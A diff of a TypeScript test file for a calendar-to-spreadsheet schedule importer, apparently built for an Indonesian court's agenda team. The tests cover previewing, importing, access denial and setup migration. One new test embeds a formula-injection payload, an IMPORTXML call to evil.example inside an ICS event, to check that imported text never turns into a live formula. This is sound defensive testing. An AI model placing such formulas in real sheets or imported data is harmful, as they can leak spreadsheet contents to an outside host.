@@ -7,9 +7,9 @@
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import type { Sandbox } from '../../sandbox/src/sandbox';
-import { addCalendar } from '../../sandbox/src/services/calendar';
+import { addCalendar, calendarFromJson } from '../../sandbox/src/services/calendar';
 import type { ImportScheduleValue, PreviewScheduleValue, Result } from '../../src/shared/contract';
-import { editCell } from '../../sandbox/src/actions';
+import { deleteColumns, editCell, sheetView } from '../../sandbox/src/actions';
 import { addPeople, KABAG, newWorkbook, OTHER, records, setSetting, snapshot, STAFF, TAB } from './helpers';
 
 const FIX = path.resolve(__dirname, '../fixtures/schedule');
@@ -124,28 +124,26 @@ describe('schedule import', () => {
     const sb = setup();
     const none = call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', { source: 'kalender', period: '2026-12' });
     expect(!none.ok && none.error.message).toContain('Pengaturan "kalender_jadwal" masih kosong');
-    addCalendar(sb.state, {
-      id: CAL,
-      name: 'Agenda Mahkamah',
-      timeZone: 'Asia/Jakarta',
-      owner: 'humas-agenda@example.org',
-      readers: [STAFF],
-      events: [
-        { id: 'ev1@google.com', title: 'Pengucapan Putusan 40/PUU-XXIV/2026', startMs: Date.UTC(2026, 11, 23, 6, 30), endMs: Date.UTC(2026, 11, 23, 9), location: 'Ruang Sidang Pleno' },
-        { id: 'ev2@google.com', title: 'HUT Mahkamah Konstitusi', allDayStart: '2026-12-24', allDayEnd: '2026-12-25' },
-        { id: 'ev3@google.com', title: 'Rapat November', startMs: Date.UTC(2026, 10, 20, 2), endMs: Date.UTC(2026, 10, 20, 3) },
-      ],
-    });
+    // The fixture calendar, shared with one staff member only.
+    addCalendar(sb.state, { ...calendarFromJson(JSON.parse(readFileSync(path.join(FIX, 'kalender-agenda-mk.json'), 'utf8'))), readers: [STAFF] });
     setSetting(sb, 'kalender_jadwal', CAL);
     const p = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', { source: 'kalender', period: '2026-12' }));
     expect(p.sourceName).toBe('kalender "Agenda Mahkamah"');
+    expect(p.outside).toBe(0); // the November meeting is outside the range read
     expect(p.rows.map((r) => [r.key, r.date, r.time, r.kindLabel, r.holiday])).toEqual([
+      ['ev5@google.com#2026-12-04', '2026-12-04', '10:00', 'Kegiatan', ''],
+      ['ev4@google.com', '2026-12-08', '09:00', 'Sidang Pemeriksaan Pendahuluan', ''],
+      ['ev5@google.com#2026-12-11', '2026-12-11', '10:00', 'Kegiatan', ''],
       ['ev1@google.com', '2026-12-23', '13:30', 'Sidang Pengucapan Putusan/Ketetapan', ''],
       ['ev2@google.com', '2026-12-24', '', 'Peringatan/HUT', 'Cuti Bersama Kelahiran Yesus Kristus'],
     ]);
-    const v = ok(call<ImportScheduleValue>(sb, 'apiImportSchedule', { source: 'kalender', period: '2026-12', keys: ['ev1@google.com', 'ev2@google.com'] }));
-    expect(v.added).toBe(2);
-    expect(konsep(sb).map((r) => r['Sumber Jadwal'])).toEqual(['ev1@google.com', 'ev2@google.com']);
+    expect(p.rows.find((r) => r.key === 'ev1@google.com')?.activity).toBe('Sidang Pengucapan Putusan/Ketetapan Perkara Nomor 40/PUU-XXIV/2026 (Pengujian UU Nomor 2 Tahun 2024 tentang Desa)');
+    const v = ok(call<ImportScheduleValue>(sb, 'apiImportSchedule', { source: 'kalender', period: '2026-12', keys: ['ev1@google.com', 'ev2@google.com', 'ev5@google.com#2026-12-04', 'ev5@google.com#2026-12-11'] }));
+    expect(v.added).toBe(4);
+    expect(konsep(sb).map((r) => r['Sumber Jadwal'])).toEqual(['ev5@google.com#2026-12-04', 'ev5@google.com#2026-12-11', 'ev1@google.com', 'ev2@google.com']);
+    // The calendar again: the written four are unchanged, the unticked one is still new.
+    const again = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', { source: 'kalender', period: '2026-12' }));
+    expect(again.rows.map((r) => r.action)).toEqual(['sama', 'baru', 'sama', 'sama', 'sama']);
     // Another staff member the calendar is not shared with.
     const denied = call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', { source: 'kalender', period: '2026-12' }, 'ppnpn@example.org');
     expect(!denied.ok && denied.error.message).toBe(`Kalender "${CAL}" tidak ditemukan atau Anda tidak punya akses untuk membacanya. Periksa ID di Pengaturan "kalender_jadwal", atau minta pemilik kalender membagikannya ke email Anda.`);
@@ -195,6 +193,30 @@ describe('schedule import', () => {
     editCell(sb, STAFF, TAB.konsep, `${col}2`, 'diubah');
     expect(konsep(sb)[0]['Sumber Jadwal']).toBe(p.rows[0].key);
     expect(ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', hearings())).rows.every((r) => r.action === 'sama')).toBe(true);
+  });
+
+  test('text from a schedule never becomes a formula, and a second import of it still finds its item', () => {
+    const sb = setup();
+    const ics = ['BEGIN:VCALENDAR', 'BEGIN:VEVENT', 'UID:=1+1', 'SUMMARY:=IMPORTXML("https://evil.example/x"\, "//a")', 'LOCATION:+62 ruang', 'DTSTART:20261202T020000Z', 'END:VEVENT', 'END:VCALENDAR', ''].join('\r\n');
+    const src = { source: 'ics', period: '2026-12', fileName: 'x.ics', content: ics };
+    const p = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', src));
+    ok(call<ImportScheduleValue>(sb, 'apiImportSchedule', { ...src, keys: p.rows.map((r) => r.key) }));
+    const row = konsep(sb)[0];
+    expect(row['Kegiatan/Informasi']).toBe('=IMPORTXML("https://evil.example/x", "//a")');
+    expect(row['Sumber Jadwal']).toBe('=1+1');
+    expect(row.Deskripsi).toBe('Pukul 09.00 WIB · +62 ruang · Format: Instagram: foto; Facebook: foto');
+    expect(sheetView(sb, TAB.konsep).rows.flat().some((c) => c === '2')).toBe(false);
+    expect(ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', src)).rows.map((r) => r.action)).toEqual(['sama']);
+  });
+
+  test('a workbook from before the import (no Sumber Jadwal column) is told to run setup, and setup adds it', () => {
+    const sb = setup();
+    deleteColumns(sb, KABAG, TAB.konsep, 15, 1);
+    const r = call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', hearings());
+    expect(!r.ok && r.error.code).toBe('SETUP_NEEDED');
+    expect(!r.ok && r.error.message).toContain('Sumber Jadwal');
+    expect(sb.run('menuSetup', { kind: 'menu', user: KABAG }).ok).toBe(true);
+    expect(ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', hearings())).rows).toHaveLength(8);
   });
 
   test('staff only; the menu opens the dialog', () => {
